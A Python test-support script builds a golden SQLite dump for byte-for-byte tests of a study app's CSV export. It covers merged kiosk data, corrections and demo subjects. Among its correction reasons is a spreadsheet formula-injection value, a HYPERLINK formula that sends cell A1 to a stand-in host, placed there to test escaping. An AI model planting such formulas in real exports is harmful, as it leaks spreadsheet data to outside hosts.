"""The study behind ``tests/data/databases/csv-golden.sql``: the answers_long and audit trail
rows of the CSV export before and after its speed work are compared on it, byte for byte
(`tests/exports/test_exports_csv_golden.py`).

It holds a hub that merged two kiosks with a conflicting visit and a correction (so subject
ids of another kiosk, a subject map, superseded rows and a chosen session), corrections whose
reasons start like spreadsheet formulas or hold commas and quotes, and demo subjects (every
visit state, skips, VAS answers). Rebuild the dump with
``python -m tests.support.csv_golden tests/data/databases/csv-golden.sql`` (the ids and times
then change, so the digests in the test must be made again with the code known to be right).
"""

from __future__ import annotations

import sqlite3
import sys
import tempfile
from datetime import timedelta
from pathlib import Path

from respine_desktop import demo, storage
from tests.support.exports import TODAY, conflicted_hub, do_visit, hub_and_kiosks
from tests.support.storage import coord, inv

REASONS = (
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1 typed on the wrong line",
    "-3.5 mm was wrong",
    "@SUM(A1:A9)",
    "patient said: \"no\", then 'yes'",
    "a = b, not a formula",
    "two\nlines",
)


def build(dump: Path) -> None:
    with tempfile.TemporaryDirectory() as tmp, hub_and_kiosks(Path(tmp)) as (hub, a, b, c):
        conflicted_hub(hub, a, b, c)
        with storage.open_database(hub) as db:
            day0 = TODAY - timedelta(days=5)
            storage.register_subject(db, "RSP-01-040", day0=day0, staff=coord(db))
            s = do_visit(db, c, "RSP-01-040", "M0", day0, vas=40.5, odi=2, sf36=2)
            for k, reason in enumerate(REASONS, start=1):
                storage.correct_answer(db, s, f"odi_{k:02d}", 5, staff=inv(db), reason=reason)
            storage.correct_answer(db, s, "vas_pain", 12.3, staff=inv(db), reason="re-measured")
            demo.generate(db, subjects=12, first=101, seed=3)
        conn = sqlite3.connect(hub)
        try:
            dump.write_text("\n".join(conn.iterdump()) + "\n", encoding="utf-8")
        finally:
            conn.close()


if __name__ == "__main__":
    build(Path(sys.argv[1]))
